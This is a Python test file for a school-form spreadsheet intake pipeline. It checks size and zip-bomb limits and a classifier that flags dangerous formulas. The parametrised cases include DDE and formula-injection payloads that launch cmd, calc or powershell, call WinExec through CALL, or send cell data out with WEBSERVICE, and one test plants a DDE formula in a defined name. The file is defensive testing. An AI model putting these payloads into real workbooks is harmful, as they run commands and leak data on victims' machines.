"""Looking inside a workbook before loading it: each limit refuses at its boundary, refusal
comes before openpyxl ever sees the file, and formulas are judged without being evaluated."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl.utils.cell import range_boundaries

import pipeline.intake
from pipeline.intake import form_identity, read_workbook
from pipeline.package import LIMITS, Limits, Refused, formula_danger, inspect_package

pytestmark = pytest.mark.bad

ROOT = Path(__file__).resolve().parent.parent
BAD = ROOT / "tests" / "data" / "bad"


def _refusal(path: Path, limits: Limits = LIMITS) -> Refused:
    with pytest.raises(Refused) as caught:
        inspect_package(path, limits)
    return caught.value


def test_every_sample_and_form_passes_the_default_limits() -> None:
    for path in [*ROOT.glob("samples/*.xlsx"), *ROOT.glob("forms/*.xlsx")]:
        package = inspect_package(path)
        assert package.content == path.read_bytes()


def test_limits_refuse_at_their_boundary(tmp_path: Path, write_pupil: Callable[..., Path]) -> None:
    """Each limit, set just below and at what a real workbook has, refuses then accepts."""
    path = write_pupil(tmp_path / "amelia.xlsx")
    rows, cells = 0, 0
    with zipfile.ZipFile(path) as package:
        parts = package.infolist()
        for part in parts:
            if part.filename.startswith("xl/worksheets/sheet"):
                xml = package.read(part).decode("utf-8")
                rows = max(rows, xml.count("<row "))
                cells += xml.count("<c ")
                for ref in re.findall(r'<mergeCell ref="([^"]+)"', xml):
                    min_col, min_row, max_col, max_row = range_boundaries(ref)
                    cells += (max_col - min_col + 1) * (max_row - min_row + 1)
    assert 200 < rows < 300 and 9_000 < cells < 11_000
    cases = {
        "file_bytes": (path.stat().st_size, "file-too-big"),
        "unpacked_bytes": (sum(part.file_size for part in parts), "unpacks-too-big"),
        "parts": (len(parts), "too-many-parts"),
        "rows_per_sheet": (rows, "too-many-rows"),
        "cells": (cells, "too-many-cells"),
    }
    for name, (actual, reason) in cases.items():
        assert _refusal(path, replace(LIMITS, **{name: actual - 1})).reason == reason, name
        inspect_package(path, replace(LIMITS, **{name: actual}))


def test_the_packing_ratio_is_checked_per_part(tmp_path: Path) -> None:
    path = BAD / "packed-too-tightly.xlsx"
    assert _refusal(path).reason == "zip-bomb"
    # A part under the floor may be packed as tightly as it likes.
    assert inspect_package(path, replace(LIMITS, ratio_floor=6 * 1024 * 1024))


@pytest.mark.parametrize(
    "file",
    ["zip-bomb.xlsx", "packed-too-tightly.xlsx", "ten-thousand-rows.xlsx", "huge-merge.xlsx"],
)
def test_oversized_files_are_refused_before_openpyxl_loads_them(
    file: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("openpyxl was asked to load a refused workbook")

    monkeypatch.setattr(pipeline.intake, "load_workbook", never)
    raw = read_workbook(BAD / file)
    (problem,) = raw.problems
    assert raw.refused and problem.file == file
    assert form_identity(BAD / file) is None


def test_a_file_over_the_size_limit_is_never_read(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "huge.xlsx"
    with path.open("wb") as stream:  # sparse: 21 MB on paper, nothing on disk
        stream.truncate(LIMITS.file_bytes + 1)

    def never(self: Path) -> bytes:
        raise AssertionError("the file was read")

    monkeypatch.setattr(Path, "read_bytes", never)
    refusal = _refusal(path)
    assert refusal.reason == "file-too-big"
    assert refusal.problem.message.startswith("this file is 20.0 MB, more than the 20 MB")


@pytest.mark.parametrize(
    ("formula", "danger"),
    [
        ("cmd|' /C calc'!A0", "program"),
        ("=cmd|'/c powershell'!'A1'", "program"),
        ("msexcel|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''", "program"),
        ('WEBSERVICE("https://example.org/?"&A1)', "program"),
        ("_xlfn.WEBSERVICE(A1)", "program"),
        ('RTD("server",,"topic")', "program"),
        ('CALL("kernel32","WinExec","JCJ","calc",0)', "program"),
        ("[1]Sheet1!$A$1", "link"),
        ("'[2]Pupil details'!B5", "link"),
        ("SUM('C:\\data\\[pupils.xlsx]Sheet1'!A1:A3)", "link"),
        ('CONCATENATE("Amelia ","Rose Hart")', None),
        ('"a|b" & "[1]"', None),  # inside text literals: just characters
        ("SUM(Medicines[Dose])", None),  # a structured reference to a table column
        ("IF(A1>0,A1,0)", None),
        ("#REF!+1", None),
    ],
)
def test_formula_danger(formula: str, danger: str | None) -> None:
    assert formula_danger(formula) == danger


def test_a_dde_formula_in_a_defined_name_is_refused(tmp_path: Path) -> None:
    source = BAD / "formula-with-saved-value.xlsx"
    with zipfile.ZipFile(source) as package:
        parts = {name: package.read(name) for name in package.namelist()}
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</definedNames>",
        b"<definedName name=\"launch\">cmd|' /C calc'!A0</definedName></definedNames>",
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    path = tmp_path / "named-dde.xlsx"
    path.write_bytes(buffer.getvalue())
    refusal = _refusal(path)
    assert refusal.reason == "program-formula" and "cmd|" in refusal.problem.message


def test_a_formula_with_a_saved_plain_result_is_read_as_that_result() -> None:
    raw = read_workbook(BAD / "formula-with-saved-value.xlsx")
    assert raw.problems == []
    name = raw.sections["pupil"].fields["legal_name"]
    assert (name.value, name.ref) == ("Amelia Rose Hart", "Pupil!B5")


def test_cell_notes_list_formulas_and_errors_only() -> None:
    notes = inspect_package(BAD / "formula-error.xlsx").notes
    assert list(notes) == [("Pupil", "B7")]
    assert notes[("Pupil", "B7")].error == "#REF!"
    assert inspect_package(ROOT / "samples" / "amelia-hart.xlsx").notes == {}
